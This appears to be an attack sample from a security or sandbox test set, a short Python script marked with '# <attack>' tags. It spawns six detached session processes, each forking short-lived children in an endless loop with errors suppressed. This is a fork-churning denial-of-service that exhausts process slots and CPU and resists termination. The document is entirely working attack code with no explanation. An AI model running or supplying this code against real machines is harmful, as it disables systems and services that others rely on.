#{crew_wrong}
# <attack>
import os

for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork() == 0:
                    if os.fork() == 0:
                        os._exit(0)
                    os._exit(0)
                os.wait()
            except OSError:
                pass
# </attack>
